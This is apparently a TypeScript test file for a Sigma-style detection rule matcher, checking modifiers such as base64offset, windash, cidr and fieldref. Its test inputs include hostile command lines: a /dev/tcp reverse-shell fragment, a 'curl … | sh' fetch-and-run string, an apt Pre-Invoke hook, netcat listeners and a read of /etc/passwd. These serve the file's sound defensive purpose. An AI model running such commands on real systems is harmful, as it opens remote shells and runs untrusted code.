import assert from "node:assert/strict";
import { infoOf, matcher } from "./testing.ts";

const sel = (item: string, condition = "selection") => `
    selection:
        ${item}
    condition: ${condition}
`;

Deno.test("itemNode() |contains matches anywhere, case-insensitively", () => {
  const m = matcher(sel("CommandLine|contains: 'APT::Update'"));
  assert.equal(m({ CommandLine: "apt-get -o apt::update::Pre-Invoke::=sh" }), true);
  assert.equal(m({ CommandLine: "APT::Updat" }), false);
  assert.equal(m({}), false, "an absent field matches no string");
});

Deno.test("itemNode() |startswith and |endswith anchor one side", () => {
  const s = matcher(sel("Image|startswith: '/tmp/'"));
  assert.equal(s({ Image: "/TMP/x" }), true);
  assert.equal(s({ Image: "/var/tmp/x" }), false);
  const e = matcher(sel("Image|endswith: '/curl'"));
  assert.equal(e({ Image: "/usr/bin/CURL" }), true);
  assert.equal(e({ Image: "/usr/bin/curl2" }), false);
});

Deno.test("itemNode() keeps wildcards inside |contains values", () => {
  const m = matcher(sel("CommandLine|contains: '/etc/*.conf'"));
  assert.equal(m({ CommandLine: "cat /etc/ld.so.conf x" }), true);
  assert.equal(m({ CommandLine: "cat /etc/passwd" }), false);
});

Deno.test("itemNode() or-links a value list, |all and-links it", () => {
  const any = matcher(sel("CommandLine|contains: [' -c ', 'os.system(']"));
  assert.equal(any({ CommandLine: "python -c x" }), true);
  const all = matcher(sel("CommandLine|contains|all: [' -c ', 'os.system(']"));
  assert.equal(all({ CommandLine: "python -c x" }), false);
  assert.equal(all({ CommandLine: "python -c 'os.system(1)'" }), true);
});

Deno.test("itemNode() |neq negates the whole value list", () => {
  const m = matcher(sel("User|neq: [root, admin]"));
  assert.equal(m({ User: "alice" }), true);
  assert.equal(m({ User: "ROOT" }), false);
  assert.equal(m({ User: "admin" }), false);
});

Deno.test("itemNode() |cased compares case-sensitively", () => {
  const m = matcher(sel("CommandLine|cased|contains: ' -O '"));
  assert.equal(m({ CommandLine: "wget -O x" }), true);
  assert.equal(m({ CommandLine: "wget -o x" }), false);
});

Deno.test("itemNode() |re searches case-sensitively, |re|i ignores case", () => {
  const m = matcher(sel("CommandLine|re: '\\s-[FTd]\\s'"));
  assert.equal(m({ CommandLine: "curl -F a=b host" }), true);
  assert.equal(m({ CommandLine: "curl -f a=b host" }), false);
  const i = matcher(sel("CommandLine|re|i: '^CURL\\b'"));
  assert.equal(i({ CommandLine: "curl x" }), true);
});

Deno.test("itemNode() |re|m and |re|s set the line and dot flags", () => {
  const plain = matcher(sel("CommandLine|re: '^b$'"));
  const m = matcher(sel("CommandLine|re|m: '^b$'"));
  assert.equal(plain({ CommandLine: "a\nb\nc" }), false);
  assert.equal(m({ CommandLine: "a\nb\nc" }), true);
  const dot = matcher(sel("CommandLine|re: 'a.b'"));
  const s = matcher(sel("CommandLine|re|s: 'a.b'"));
  assert.equal(dot({ CommandLine: "a\nb" }), false);
  assert.equal(s({ CommandLine: "a\nb" }), true);
});

Deno.test("itemNode() translates PCRE inline flags and named groups", () => {
  const m = matcher(sel("CommandLine|re: '(?i)(?P<w>ab)-(?P=w)'"));
  assert.equal(m({ CommandLine: "x AB-AB" }), true);
  assert.equal(m({ CommandLine: "x AB-AC" }), false);
});

Deno.test("itemNode() |windash matches every dash variant of a flag", () => {
  const m = matcher(sel("CommandLine|windash|contains: ' -exec '"));
  for (const d of ["-", "/", "\u2013", "\u2014", "\u2015"]) {
    assert.equal(m({ CommandLine: `find . ${d}exec sh` }), true, `dash ${d}`);
  }
  assert.equal(m({ CommandLine: "find . +exec sh" }), false);
  // a dash inside a word is not a flag's: only the leading one varies
  const w = matcher(sel("CommandLine|windash: 'a-b'"));
  assert.equal(w({ CommandLine: "a/b" }), false);
  assert.equal(w({ CommandLine: "a-b" }), true);
});

Deno.test("itemNode() |base64 matches the encoded value", () => {
  const m = matcher(sel("CommandLine|base64|contains: 'curl http://x | sh'"));
  assert.equal(m({ CommandLine: `echo ${btoa("curl http://x | sh")} | base64 -d` }), true);
  assert.equal(m({ CommandLine: `echo ${btoa("wget http://x | sh")}` }), false);
});

Deno.test("itemNode() |base64offset finds the value at any offset of the encoding", () => {
  const m = matcher(sel("CommandLine|base64offset|contains: '/bin/sh -i'"));
  for (const pre of ["", "a", "ab", "abc", "abcd"]) {
    for (const post of ["", "x", "xy", " >& /dev/tcp/1.2.3.4/9"]) {
      const enc = btoa(pre + "/bin/sh -i" + post);
      assert.equal(m({ CommandLine: `echo ${enc} | base64 -d | sh` }), true, `${pre}|${post}`);
    }
  }
  assert.equal(m({ CommandLine: `echo ${btoa("xx/bin/bash -i")}` }), false);
});

function utf16(s: string, be: boolean, bom: boolean): string {
  let bin = bom ? (be ? "\xfe\xff" : "\xff\xfe") : "";
  for (const ch of s) bin += be ? "\0" + ch : ch + "\0";
  return btoa(bin);
}

Deno.test("itemNode() |wide, |utf16le, |utf16be, |utf16 encode before base64", () => {
  const cases: [string, boolean, boolean][] = [
    ["wide", false, false],
    ["utf16le", false, false],
    ["utf16be", true, false],
    ["utf16", false, true],
  ];
  for (const [mod, be, bom] of cases) {
    const m = matcher(sel(`CommandLine|${mod}|base64: 'whoami'`));
    assert.equal(m({ CommandLine: utf16("whoami", be, bom) }), true, mod);
    assert.equal(m({ CommandLine: utf16("whoami", !be, bom) }), false, `${mod} other order`);
  }
  const raw = matcher(sel("CommandLine|wide: 'cmd'"));
  assert.equal(raw({ CommandLine: "c\0m\0d\0" }), true);
});

Deno.test("itemNode() |cidr matches IPv4 and IPv6 networks", () => {
  const m = matcher(
    sel("DestinationIp|cidr: ['10.0.0.0/8', '192.168.1.0/24', 'fd00::/8', '::1/128']"),
    { category: "network_connection" },
  );
  assert.equal(m({ DestinationIp: "10.200.3.4" }), true);
  assert.equal(m({ DestinationIp: "11.0.0.1" }), false);
  assert.equal(m({ DestinationIp: "192.168.1.255" }), true);
  assert.equal(m({ DestinationIp: "192.168.2.1" }), false);
  assert.equal(m({ DestinationIp: "fd12:3456::1" }), true);
  assert.equal(m({ DestinationIp: "fe80::1" }), false);
  assert.equal(m({ DestinationIp: "::1" }), true);
  assert.equal(m({ DestinationIp: "not an ip" }), false);
});

Deno.test("itemNode() |lt |lte |gt |gte compare numbers and decimal text", () => {
  const gt = matcher(sel("ProcessId|gt: 100"));
  assert.equal(gt({ ProcessId: 101 }), true);
  assert.equal(gt({ ProcessId: 100 }), false);
  assert.equal(gt({ ProcessId: "250" }), true);
  assert.equal(gt({ ProcessId: "abc" }), false);
  const lte = matcher(sel("ProcessId|lte: 100"));
  assert.equal(lte({ ProcessId: 100 }), true);
  assert.equal(lte({ ProcessId: 101 }), false);
  const lt = matcher(sel("ProcessId|lt: 1"));
  assert.equal(lt({ ProcessId: 0 }), true);
  const gte = matcher(sel("ProcessId|gte: 5"));
  assert.equal(gte({ ProcessId: 5 }), true);
  assert.equal(gte({ ProcessId: 4 }), false);
});

Deno.test("itemNode() |fieldref compares with another field", () => {
  const eq = matcher(sel("Image|fieldref: ParentImage"));
  assert.equal(eq({ Image: "/bin/sh", ParentImage: "/BIN/SH" }), true);
  assert.equal(eq({ Image: "/bin/sh", ParentImage: "/bin/bash" }), false);
  assert.equal(eq({ Image: "/bin/sh" }), false, "the other field absent");
  const c = matcher(sel("CommandLine|fieldref|contains: Image"));
  assert.equal(c({ CommandLine: "exec /bin/sh -i", Image: "/bin/sh" }), true);
  const s = matcher(sel("CommandLine|fieldref|startswith: Image"));
  assert.equal(s({ CommandLine: "/bin/sh -i", Image: "/bin/sh" }), true);
  assert.equal(s({ CommandLine: "exec /bin/sh", Image: "/bin/sh" }), false);
  const e = matcher(sel("CommandLine|fieldref|endswith: Image"));
  assert.equal(e({ CommandLine: "exec /bin/sh", Image: "/bin/sh" }), true);
  for (const item of ["Image|fieldref|cased: ParentImage", "Image|cased|fieldref: ParentImage"]) {
    const cased = matcher(sel(item));
    assert.equal(cased({ Image: "/bin/sh", ParentImage: "/BIN/SH" }), false, item);
    assert.equal(cased({ Image: "/bin/sh", ParentImage: "/bin/sh" }), true, item);
  }
});

Deno.test("itemNode() gives reasons for modifiers it does not support", () => {
  assert.equal(
    infoOf(sel("CommandLine|expand: '%admins%'")).reason,
    `modifier "expand" not supported (placeholders)`,
  );
  assert.equal(infoOf(sel("ProcessId|hour: 3")).reason, `modifier "hour" not supported`);
  assert.equal(infoOf(sel("CommandLine|sortof: x")).reason, `unknown modifier "sortof"`);
  assert.equal(infoOf(sel("CommandLine|contains|re: x")).reason, `modifier "re" must come first`);
  assert.equal(infoOf(sel("CommandLine|i: x")).reason, `modifier "i" needs "re" before it`);
  assert.equal(
    infoOf(sel("CommandLine|re|cased: x")).reason,
    `modifier "cased" does not apply to a regular expression`,
  );
  assert.equal(
    infoOf(sel("CommandLine|base64: 'a*b'")).reason,
    `modifier "base64" does not apply to a value with wildcards`,
  );
  assert.equal(infoOf(sel("ProcessId|gt: '5'")).reason, `modifier "gt" needs a number`);
  assert.equal(
    infoOf(sel("CommandLine|re: '(unclosed'")).reason?.startsWith(`regex "(unclosed" is invalid:`),
    true,
  );
  assert.equal(
    infoOf(sel("DestinationIp|cidr: '10.0.0.0/33'"), { category: "network_connection" }).reason,
    `cidr "10.0.0.0/33" is not an IPv4 or IPv6 network`,
  );
  assert.equal(
    infoOf(sel("CommandLine|exists: maybe")).reason,
    `modifier "exists" needs true or false`,
  );
  assert.equal(
    infoOf(sel("CommandLine|wide: 'é'")).reason,
    `modifier "wide" only applies to ASCII-range text`,
  );
});

Deno.test("itemNode() treats a number as its text for string modifiers", () => {
  const m = matcher(sel("CommandLine|contains: 4444"));
  assert.equal(m({ CommandLine: "nc -l 4444" }), true);
  assert.equal(m({ CommandLine: "nc -l 4443" }), false);
});
